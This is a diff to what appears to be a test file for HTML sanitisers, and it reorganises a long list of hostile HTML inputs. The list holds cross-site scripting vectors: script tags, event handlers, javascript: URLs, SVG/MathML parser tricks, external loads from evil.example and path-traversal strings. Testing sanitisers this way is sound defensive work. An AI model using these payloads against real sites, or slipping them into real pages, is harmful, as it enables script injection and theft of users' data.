@@ -15,16 +15,16 @@ const pictures = (...addresses: readonly string[]): readonly string[] =>
 const paragraphs = (...attributes: readonly string[]): readonly string[] =>
   attributes.map((one) => `<p ${one}>a</p>`);
 
-const scripts = [
+const withPayload = (html: string): string => html.replaceAll('{js}', 'window.pwned=1');
+
+/** Hostile HTML that server and browser parse alike. */
+const alike = [
   '<script>{js}</script>',
   '<script src=https://evil.example/x.js></script>',
   '<scr<script>ipt>{js}</scr</script>ipt>',
   '<script>{js}',
   '<\u0000script>{js}</script>',
   '<style><img src="</style><img src=x onerror={js}//"></style>',
-];
-
-const handlers = [
   "<img src=x onerror='{js}'>",
   '<img src=x\u000conerror={js}>',
   '<a href="/x" onfocus={js} autofocus>a</a>',
@@ -35,9 +35,6 @@ const handlers = [
   '<img src=1 alt="`><img src=x onerror={js}>`">',
   '<img src=`x` onerror=`{js}`>',
   ...paragraphs('onclick={js}', 'onmouseover="{js}"', 'tabindex=1 onfocus={js} id=x'),
-];
-
-const addresses = [
   '<a href=javascript:{js}>a</a>',
   '<a xlink:href="javascript:{js}">a</a>',
   '<base href="https://evil.example/"><a href="x">a</a>',
@@ -58,9 +55,6 @@ const addresses = [
   ...pictures('javascript:{js}', 'data:image/svg+xml,<svg onload={js}>'),
   ...pictures('https://evil.example/track.png', '//evil.example/track.png', '../../etc/passwd'),
   ...pictures('files/%2e%2e/%2e%2e/secret.png', 'files/%252e%252e/secret.png'),
-];
-
-const embeds = [
   '<iframe src="javascript:{js}"></iframe>',
   '<frameset onload={js}><frame src="javascript:{js}"></frameset>',
   '<object data="javascript:{js}"></object>',
@@ -70,9 +64,6 @@ const embeds = [
   '<style>@import "https://evil.example/x.css";</style>',
   '<template><img src=x onerror={js}></template>',
   ...paragraphs('style="background:url(javascript:{js})"', 'style="width:expression({js})"'),
-];
-
-const foreign = [
   '<svg/onload={js}>',
   '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
@@ -83,9 +74,6 @@ const foreign = [
   '<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>',
   '<svg><title><style><!--</style><img src=x onerror={js}>--></title></svg>',
   '<svg><![CDATA[><img src=x onerror={js}>]]></svg>',
-];
-
-const parserTricks = [
   '<!--<img src=x onerror={js}>-->',
   '<!-- --!><img src=x onerror={js}>-->',
   '<p title="</p><img src=x onerror={js}>">a</p>',
@@ -111,9 +99,7 @@ const parserTricks = [
   ...links('/x?a=&quot;onclick={js}', 'https://evil.example/&quot;><script>{js}</script>'),
   ...paragraphs('a="1" a="2" onclick={js} onclick={js}', '=onclick={js}', '"onclick={js}'),
   ...paragraphs('data-bind="html:x" data-ng-app v-html="x" x-data="{js}"'),
-];
-
-const withPayload = (html: string): string => html.replaceAll('{js}', 'window.pwned=1');
+].map(withPayload);
 
 /** Hostile HTML that server and browser parse differently: the sanitised HTML may differ. */
 const parserDependent: readonly string[] = [
@@ -128,15 +114,7 @@ const parserDependent: readonly string[] = [
   '<select><style></select><img src=x onerror={js}></style>',
 ].map(withPayload);
 
-const hostileHtml: readonly string[] = [
-  ...scripts,
-  ...handlers,
-  ...addresses,
-  ...embeds,
-  ...foreign,
-  ...parserTricks,
-  ...parserDependent,
-].map(withPayload);
+const hostileHtml: readonly string[] = [...alike, ...parserDependent];
 
 /** Ordinary HTML, clean or from a word processor. Both sanitisers must return the same result. */
 const ordinaryHtml: readonly string[] = [
